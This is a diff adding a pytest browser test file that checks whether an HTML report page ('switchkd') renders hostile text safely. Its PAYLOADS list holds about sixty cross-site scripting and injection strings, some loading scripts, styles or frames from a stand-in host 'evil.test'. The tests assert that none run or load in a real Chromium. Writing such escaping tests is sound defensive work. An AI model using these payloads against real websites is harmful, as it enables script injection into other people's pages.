@@ -1,0 +1,225 @@
+"""The page in a real Chromium: hostile texts stay text, and it fits a laptop and a phone."""
+
+import re
+from dataclasses import replace
+
+import pytest
+from browser import LAPTOP, PHONE, visit
+from report.run_folders import KINDS, write_fake_run, write_questions, write_results, write_study
+
+from switchkd.report.gather import gather
+from switchkd.report.page import write_page
+from switchkd.report.schema import Agreement, Probe
+from switchkd.reporting import report
+
+pytestmark = pytest.mark.browser
+
+#: What would run, load or show something if it were read as markup, as a script or as plotly's small HTML.
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.test/x.js></script>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<!--<script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=//evil.test/x.png>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg/onload=alert(1)//",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=//evil.test/x>",
+    "<embed src=//evil.test/x>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='//evil.test'>x</a>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<style>@import '//evil.test/x.css';</style>",
+    "<style>*{display:none}</style>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'>",
+    "<base href=//evil.test/>",
+    "<form action=//evil.test><button>x</button></form>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<b>bold</b><br><sub>x</sub>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    "` onmouseover=alert(1)",
+    "javascript:alert(1)",
+    "{{ 7 * 7 }}",
+    "{% for x in y %}",
+    "${alert(1)}",
+    "%{x} %{fullData.name} %{customdata}",
+    "</b></span></td></table>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "<<script>alert(1)//<</script>",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "\u202e<script>alert(1)</script>",
+    "$\\href{javascript:alert(1)}{x}$",
+    "__proto__",
+    "constructor",
+    "';alert(1);//",
+    '";alert(1);//',
+    "\ud83d<img src=x onerror=alert(1)>",
+    "x" * 3000,
+    "a\nb\tc\rd",
+    "",
+]
+#: The plotly library and the page's own script; the third holds data.
+OWN_SCRIPTS = 3
+
+
+def texts_of(turn: int):
+    """Three other payloads wherever a text is asked for, the next ones at the next turn."""
+    handed: dict[str, str] = {}
+
+    def text(name: str) -> str:
+        if name not in handed:
+            begin = 3 * len(handed) + turn
+            handed[name] = " ".join([name, *(PAYLOADS[(begin + i) % len(PAYLOADS)] for i in range(3))])
+        return handed[name]
+
+    return text
+
+
+def check(page, own: int = OWN_SCRIPTS) -> None:
+    """Nothing ran, loaded or became an element that the page did not make itself."""
+    found = page.evaluate(
+        """() => ({
+            scripts: document.querySelectorAll('script').length,
+            active: document.querySelectorAll('iframe, object, embed, base, form, input, video, audio, marquee, math, link, template')
+                .length,
+            handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/i.test(a.name))).length,
+            links: [...document.querySelectorAll('a')].filter(a => !(a.getAttribute('href') || '').startsWith('#')).length,
+            images: [...document.querySelectorAll('img, image')].filter(i => !/^data:image\\/(png|webp)/.test(i.src || '')).length,
+            styles: [...document.querySelectorAll('main style, header style')].length,
+        })"""
+    )
+    assert found == {"scripts": own, "active": 0, "handlers": 0, "links": 0, "images": 0, "styles": 0}
+
+
+def hover(page) -> None:
+    """Put the mouse on the charts, where plotly writes names and texts."""
+    for chart in page.query_selector_all(".chart")[:8]:
+        chart.scroll_into_view_if_needed()
+        box = chart.bounding_box()
+        if box:
+            for share in (0.35, 0.6):
+                page.mouse.move(box["x"] + box["width"] * share, box["y"] + box["height"] * 0.5)
+
+
+def test_hostile_texts_stay_texts(browser, tmp_path):
+    """In ids, kinds, questions, answers, recipe values, logged terms, models' names, arms, notes and paths."""
+    assert len(PAYLOADS) >= 50
+    dialogs: list[str] = []
+    seen = ""
+    for turn in range(0, len(PAYLOADS), 16):
+        text, folder = texts_of(turn), tmp_path / str(turn)
+        write_fake_run(folder / "a", "100101", texts=text)
+        write_fake_run(folder / "b", "011011", method="switch_kd", texts=text)
+        write_results(folder / "teacher.results.json", "111111", texts=text, model="teacher")
+        evidence = gather([folder])
+        names = {model.name: text(model.name) for model in evidence.models}
+        question = next(iter(evidence.models[0].answers))
+        probe = Probe(
+            2,
+            3,
+            9,
+            3,
+            {"teacher": (3, 4, 5), "student": (3, 3, 3)},
+            {"student": Agreement(1.0, 2.0, 3.0)},
+            {},
+            (text("note"),),
+        )
+        models = tuple(
+            replace(m, name=names[m.name], probe=probe if m.recipe else None, missing={"results": text("miss")})
+            for m in evidence.models
+        )
+        evidence = replace(
+            evidence, models=models, baseline=names["a"], chosen=(question,), unread=text("unread"),
+            same_answers={names["a"]: {None: 1.0, text("colour"): 2.0}},
+        )  # fmt: skip
+        page = write_page(evidence, folder / "report.html")
+        with visit(browser, page.as_uri()) as opened:
+            opened.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+            hover(opened.page)
+            check(opened.page)
+            assert opened.elsewhere(page.as_uri()) == []
+            assert opened.complaints == []
+            assert opened.sideways() == 0
+            seen += opened.page.inner_text("body")
+    assert dialogs == []
+    for payload in ("<script>alert(1)</script>", "{{ 7 * 7 }}", "&lt;script&gt;alert(1)&lt;/script&gt;"):
+        assert payload in seen  # shown as it is
+
+
+def test_hostile_arms_of_a_study_stay_texts(browser, tmp_path):
+    arms = {
+        f"{number} {payload}".replace("\ud83d", ""): [40.0 + number, 50.0] for number, payload in enumerate(PAYLOADS)
+    }
+    text = texts_of(3)
+    page = write_page(
+        gather([write_study(tmp_path, arms, texts=lambda name: name if name in arms else text(name))]),
+        tmp_path / "report.html",
+    )
+    with visit(browser, page.as_uri()) as opened:
+        dialogs: list[str] = []
+        opened.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        opened.page.evaluate("document.querySelectorAll('details').forEach(fold => { fold.open = true; })")
+        hover(opened.page)
+        check(opened.page)
+        assert dialogs == []
+        assert opened.elsewhere(page.as_uri()) == []
+        assert opened.complaints == []
+        assert opened.sideways() == 0
+        ticks = opened.page.eval_on_selector_all(".ytick text", "nodes => nodes.map(node => node.textContent)")
+        assert any("<script>alert" in tick for tick in ticks)  # plotly shows the name, it does not read it
+
+
+@pytest.mark.parametrize("size", [LAPTOP, PHONE])
+def test_it_fits_the_screen_and_answers_clicks(browser, tmp_path, size):
+    data = write_questions(tmp_path)
+    write_fake_run(tmp_path / "runs" / "sft", "100100", data=str(data))
+    write_fake_run(tmp_path / "runs" / "switch-kd", "011011", method="switch_kd", data=str(data))
+    _, page = report([tmp_path / "runs"], tmp_path / "report.html", questions=0)
+    with visit(browser, page.as_uri(), size) as opened:
+        assert opened.sideways() == 0
+        assert opened.complaints == []
+        assert opened.elsewhere(page.as_uri()) == []
+        widths = opened.page.eval_on_selector_all(
+            ".chart .main-svg", "nodes => nodes.map(node => node.getBoundingClientRect().right)"
+        )
+        assert widths
+        assert max(widths) <= size[0]
+        assert opened.page.locator(".example img").count() == 6  # every question was won or lost
+        first = opened.page.locator(".chart").first
+        assert first.locator(".scatterlayer .trace").count() == 2
+        opened.page.get_by_role("button", name="switch-kd").first.click()
+        opened.page.wait_for_function(
+            "document.querySelector('.chart').querySelectorAll('.scatterlayer .trace').length === 1"
+        )
+        assert set(
+            opened.page.eval_on_selector_all("button[aria-pressed=false]", "nodes => nodes.map(n => n.innerText)")
+        ) == {"switch-kd"}
+        opened.page.get_by_role("button", name="switch-kd").first.click()
+        opened.page.wait_for_function(
+            "document.querySelector('.chart').querySelectorAll('.scatterlayer .trace').length === 2"
+        )
+        # what was folded away is drawn when it opens
+        assert re.search(r"colour|count|shape", opened.page.inner_text(".example >> nth=0"))
+        assert len(KINDS) == 3
